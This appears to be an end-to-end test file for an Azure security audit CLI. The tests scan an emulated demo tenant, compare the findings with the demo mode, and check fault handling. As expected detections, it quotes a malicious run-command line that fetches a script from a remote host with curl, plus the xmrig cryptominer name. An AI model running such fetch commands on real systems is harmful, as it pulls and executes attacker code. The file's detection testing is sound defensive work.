/**
 * End to end, as a user runs it: the CLI as a child process against the loopback emulator
 * serving the demo tenant, through the custom-cloud settings only (NODE_EXTRA_CA_CERTS,
 * AZURE_TENANT_ID / AZURE_CLIENT_ID / AZURE_CLIENT_SECRET / AZURE_AUTHORITY_HOST from the
 * emulator's line, --arm-endpoint, --auth env). The live scan must find what `scan --demo`
 * finds in the same tenant's files, with the payloads recovered; faults must never cost a
 * readable finding, and what could not be read must be named.
 */
import { spawnSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type RunningEmulator, startEmulator } from "../../emulator/server.ts";
import { PACKAGE_ROOT } from "../../src/paths.js";
import { tempDir } from "../helpers.js";
import { liveScan as liveScanIn } from "./scan.js";

const BIN = join(PACKAGE_ROOT, "bin/azure-exec-audit.js");
const DEV = "091c6054-988d-4631-9070-418c6f76a5fa";
const tmp = tempDir();
afterAll(() => tmp.cleanup());

interface Report {
  scan: { complete: boolean; coverage: { source: string; scope: string; status: string; reason?: string }[] };
  findings: { ruleId: string; resourceId?: string; principal?: { id?: string }; evidence: unknown[] }[];
}

/** The environment a user sets from the emulator's JSON line. */
const liveScan = (e: RunningEmulator, extra: string[] = [], env: NodeJS.ProcessEnv = {}) =>
  liveScanIn<Report>(e, tmp.dir, extra, env);

/** A finding by what it is about; the emulator's registry is localhost:<port>, the demo's contosoprodacr.azurecr.io. */
const keyOf = (f: Report["findings"][number]) => `${f.ruleId} ${f.resourceId ?? ""} ${f.principal?.id ?? ""}`;
/** Served by the emulator under its own login server, so this rule sees an image outside *.azurecr.io. */
const OUTSIDE_ACR_RULE = "a7828146-6d22-4bd6-bb7f-f4bfb950866f";

let demo: Report;
beforeAll(() => {
  const out = join(tmp.dir, "demo.json");
  const r = spawnSync(process.execPath, [BIN, "scan", "--no-state", "--demo", "--format", "json", "--output", out], {
    encoding: "utf8",
    env: { PATH: process.env.PATH, HOME: process.env.HOME },
  });
  expect(r.status).toBe(0);
  demo = JSON.parse(readFileSync(out, "utf8")) as Report;
});

describe("a live scan of the emulated demo tenant", () => {
  let emu: RunningEmulator;
  beforeAll(async () => {
    emu = await startEmulator({});
  });
  afterAll(() => emu.close());

  it("finds what scan --demo finds, with the payloads recovered", async () => {
    const before = emu.requests.length;
    const r = await liveScan(emu);
    expect(r.stderr).toBe("");
    // The demo's small layers (benign profile and cron files) are downloaded once each and stay quiet.
    const held = new Set([...(emu.snapshot.registries[0]?.blobs.keys() ?? [])]);
    expect(held.size).toBe(6);
    const blobs = emu.requests
      .slice(before)
      .filter((q) => q.front.startsWith("acr:") && q.path.includes("/blobs/"))
      .map((q) => ({ digest: decodeURIComponent(q.path).split("/blobs/")[1] as string, status: q.status }));
    expect(blobs.filter((b) => held.has(b.digest)).map((b) => b.status)).toEqual(Array(6).fill(200));
    expect(blobs.every((b) => b.status === 200)).toBe(true);
    expect(r.code).toBe(0);
    const report = r.report as Report;
    expect(report.scan.complete).toBe(true);
    const sources = new Set(report.scan.coverage.map((c) => c.source));
    expect([...sources].sort()).toEqual(["activity-log", "app-service", "rbac", "registry", "resources"]);
    const live = report.findings
      .filter((f) => f.ruleId !== OUTSIDE_ACR_RULE)
      .map(keyOf)
      .sort();
    expect(live).toEqual(demo.findings.map(keyOf).sort());
    const text = JSON.stringify(report.findings);
    // The run command's script, the function's package URL, the image's entrypoint.
    expect(text).toContain("curl -fsSL http://198.51.100.23/s2.sh");
    expect(text).toMatch(/WEBSITE_RUN_FROM_PACKAGE/);
    expect(text).toContain("xmrig");
    // The chain the demo is built around.
    expect(report.findings.some((f) => f.ruleId && JSON.stringify(f.evidence).includes('"kind":"chain"'))).toBe(true);
    // Secrets in app settings never reach the report.
    expect(text).not.toMatch(/AccountKey=[A-Za-z0-9+/]{20}/);
  }, 120_000);

  it("--workspace reads the Activity Log from Log Analytics instead of the API: the same findings", async () => {
    const r = await liveScan(emu, ["--workspace", emu.workspaceId, "--logs-endpoint", emu.logsEndpoint]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const report = r.report as Report;
    const sources = new Set(report.scan.coverage.map((c) => c.source));
    expect([...sources].sort()).toEqual(["app-service", "rbac", "registry", "resources", "workspace"]);
    expect(emu.requests.some((q) => q.front === "logs" && q.status === 200)).toBe(true);
    const live = report.findings
      .filter((f) => f.ruleId !== OUTSIDE_ACR_RULE)
      .map(keyOf)
      .sort();
    expect(live).toEqual(demo.findings.map(keyOf).sort());
  }, 120_000);

  it("--workspace with a name instead of the GUID is one usage error (exit 3)", async () => {
    const r = await liveScan(emu, ["--workspace", "contoso-logs", "--logs-endpoint", emu.logsEndpoint]);
    expect(r.code).toBe(3);
    expect(r.stderr.trim().split("\n")).toHaveLength(1);
    expect(r.stderr).toContain("--workspace takes a Log Analytics workspace id (a GUID");
  }, 60_000);

  // A new user's command from the README, without --logs-endpoint, waited on the public Log
  // Analytics host for minutes before this was a usage error.
  it("--workspace on the custom cloud without --logs-endpoint is one usage error naming it (exit 3)", async () => {
    const r = await liveScan(emu, ["--workspace", emu.workspaceId]);
    expect(r.code).toBe(3);
    expect(r.stderr.trim().split("\n")).toHaveLength(1);
    expect(r.stderr).toContain("needs --logs-endpoint");
  }, 60_000);

  it("fails closed in one sentence when sign-in fails (exit 3)", async () => {
    const r = await liveScan(emu, [], { AZURE_CLIENT_SECRET: "wrong" });
    expect(r.code).toBe(3);
    expect(r.stderr.trim().split("\n")).toHaveLength(1);
    expect(r.stderr).toContain("could not sign in with EnvironmentCredential");
    // Entra ID's own reason, not the library's "authentication failed" wrapper.
    expect(r.stderr).toMatch(/AADSTS\d+: /);
    expect(r.stderr).toContain("AZURE_CLIENT_SECRET");
  }, 60_000);
});

describe("faults", () => {
  it("a subscription that answers 403 makes the scan incomplete and names the subscription and the role", async () => {
    const emu = await startEmulator({ faults: [`forbidden=${DEV}`] });
    try {
      const r = await liveScan(emu);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain(`subscription ${DEV}`);
      expect(r.stderr).toMatch(/grant the scanning identity Reader/);
      const failed = (r.report as Report).scan.coverage.filter((c) => c.status !== "complete");
      expect(failed.length).toBeGreaterThan(0);
      expect(failed.every((c) => c.scope.includes(DEV))).toBe(true);
      // What the other subscription holds is still found.
      expect((r.report as Report).findings.length).toBeGreaterThan(0);
      expect((await liveScan(emu, ["--allow-incomplete"])).code).toBe(0);
    } finally {
      await emu.close();
    }
  }, 120_000);

  /** The scan's findings, the same as the demo's whatever was injected. */
  const expectSameFindings = (r: Awaited<ReturnType<typeof liveScan>>) => {
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const report = r.report as Report;
    expect(report.scan.complete).toBe(true);
    const live = report.findings
      .filter((f) => f.ruleId !== OUTSIDE_ACR_RULE)
      .map(keyOf)
      .sort();
    expect(live).toEqual(demo.findings.map(keyOf).sort());
  };

  it("throttling that says how many reads are left: the scan paces itself, same findings", async () => {
    // A bucket of 15 reads refilled at 5 a second, far below ARM's (250, 25 a second): a scan
    // that did not pace itself would empty it (each subscription takes about 28 reads).
    const emu = await startEmulator({ throttle: { capacity: 15, refillPerSecond: 5 } });
    try {
      expectSameFindings(await liveScan(emu));
      // Every answer said how many reads were left, and none was a 429.
      expect(emu.requests.filter((q) => q.remainingReads !== undefined).length).toBeGreaterThan(40);
      expect(emu.requests.filter((q) => q.status === 429)).toEqual([]);
    } finally {
      await emu.close();
    }
  }, 180_000);

  it("throttling that does not (a resource provider's own): 429s are retried after Retry-After, same findings", async () => {
    const emu = await startEmulator({ throttle: { capacity: 6, refillPerSecond: 4, reportRemaining: false } });
    try {
      expectSameFindings(await liveScan(emu));
      expect(emu.requests.filter((q) => q.status === 429).length).toBeGreaterThan(0);
    } finally {
      await emu.close();
    }
  }, 180_000);

  for (const fault of ["5xx=0.2", "reset=0.1", "truncate=0.1", "token-expiry=2"]) {
    it(`${fault}: completes with the same findings, nothing missing`, async () => {
      const emu = await startEmulator({ faults: [fault], seed: 3 });
      try {
        expectSameFindings(await liveScan(emu));
        // A two-second token is renewed during the scan rather than failing it.
        if (fault === "token-expiry=2") expect(emu.requests.filter((q) => q.front === "aad").length).toBeGreaterThan(1);
        else expect(emu.requests.some((q) => q.fault === fault.split("=")[0])).toBe(true);
      } finally {
        await emu.close();
      }
    }, 180_000);
  }
});
